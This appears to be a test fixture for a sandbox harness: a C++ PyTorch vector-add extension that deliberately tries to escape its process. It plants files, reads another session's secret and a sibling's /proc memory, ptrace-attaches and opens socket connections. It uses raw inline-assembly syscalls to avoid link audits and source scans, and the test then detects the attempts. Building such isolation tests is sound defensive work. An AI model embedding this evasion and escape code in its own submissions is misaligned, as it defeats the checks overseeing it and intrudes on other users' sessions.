// A correct vadd that also tries to get out of its process, the way an attacker would: raw system calls made with
// inline assembly (no libc symbol for the link audit, no file API name for the source scan), once from a static
// object's constructor (at load) and again in every call. Each attempt that succeeds adds 1 to the output, so the
// verdict is correct only if every attempt failed; the test also looks for the attempts' traces (planted files,
// accepted connections, a traced sibling). Targets come from escape_targets.h, written by the test.
#include <torch/types.h>
#include <torch/csrc/utils/pybind.h>

#include <cstdint>
#include <cstdio>
#include <cstring>

#include "../binding_registry.h"
#include "escape_targets.h"

namespace {

long sys(long n, long a = 0, long b = 0, long c = 0, long d = 0) {
    long ret;
    register long r10 asm("r10") = d;
    asm volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c), "r"(r10) : "rcx", "r11", "memory");
    return ret;
}

constexpr long kRead = 0, kWrite = 1, kClose = 3, kPread = 17, kSocket = 41, kConnect = 42, kPtrace = 101;
constexpr long kOpenat = 257, kAtFdcwd = -100;

struct Ipv4 { uint16_t family; uint16_t port; uint32_t addr; char zero[8]; };
struct Unix { uint16_t family; char path[108]; };

int plant(const char* path) {
    long fd = sys(kOpenat, kAtFdcwd, (long)path, 01 | 0100 | 01000, 0644);  // O_WRONLY | O_CREAT | O_TRUNC
    if (fd < 0) return 0;
    sys(kWrite, fd, (long)"planted", 7);
    sys(kClose, fd);
    return 1;
}

int read_one(const char* path, long offset) {
    long fd = sys(kOpenat, kAtFdcwd, (long)path, 0, 0);
    if (fd < 0) return 0;
    char byte;
    long got = offset < 0 ? sys(kRead, fd, (long)&byte, 1) : sys(kPread, fd, (long)&byte, 1, offset);
    sys(kClose, fd);
    return got == 1;
}

int tcp_connect() {
    long s = sys(kSocket, 2, 1, 0);  // AF_INET, SOCK_STREAM
    if (s < 0) return 0;
    Ipv4 a{2, (uint16_t)((ESCAPE_TCP_PORT >> 8) | ((ESCAPE_TCP_PORT & 0xff) << 8)), 0x0100007f, {}};
    long ok = sys(kConnect, s, (long)&a, sizeof a);
    sys(kClose, s);
    return ok == 0;
}

int abstract_connect() {
    long s = sys(kSocket, 1, 1, 0);  // AF_UNIX, SOCK_STREAM
    if (s < 0) return 0;
    Unix a{1, {}};
    std::size_t n = std::strlen(ESCAPE_ABSTRACT_NAME);
    std::memcpy(a.path + 1, ESCAPE_ABSTRACT_NAME, n);  // path[0] == 0: the abstract namespace
    long ok = sys(kConnect, s, (long)&a, (long)(sizeof(uint16_t) + 1 + n));
    sys(kClose, s);
    return ok == 0;
}

int escapes(const char* when) {
    int won = 0;
    char path[512];
    for (const char* dir : ESCAPE_PLANT_DIRS) {
        std::snprintf(path, sizeof path, "%s/cudagent-plant-%s-%s", dir, ESCAPE_TOKEN, when);
        won += plant(path);
    }
    won += read_one(ESCAPE_SECRET, -1);  // another session's scratch
    std::snprintf(path, sizeof path, "/proc/%d/cmdline", ESCAPE_SIBLING);
    won += read_one(path, -1);
    std::snprintf(path, sizeof path, "/proc/%d/mem", ESCAPE_SIBLING);
    won += read_one(path, (long)ESCAPE_SIBLING_ADDR);
    if (sys(kPtrace, 16, ESCAPE_SIBLING, 0, 0) == 0) {  // PTRACE_ATTACH; left attached: the test sees it
        won += 1;
    }
    won += tcp_connect();
    won += abstract_connect();
    return won;
}

struct AtLoad {
    int won;
    AtLoad() : won(escapes("load")) {}
};
AtLoad at_load;

}  // namespace

static torch::Tensor vadd(torch::Tensor a, torch::Tensor b, double alpha) {
    float wrong = static_cast<float>(at_load.won + escapes("call"));
    auto out = torch::empty_like(a);
    const float *pa = a.data_ptr<float>(), *pb = b.data_ptr<float>();
    float* po = out.data_ptr<float>();
    for (int64_t i = 0; i < a.numel(); ++i) po[i] = static_cast<float>(alpha) * pa[i] + pb[i] + wrong;
    return out;
}

static void register_ops(pybind11::module& m) { m.def("vadd", &vadd); }

REGISTER_BINDING(escape_ops, register_ops);
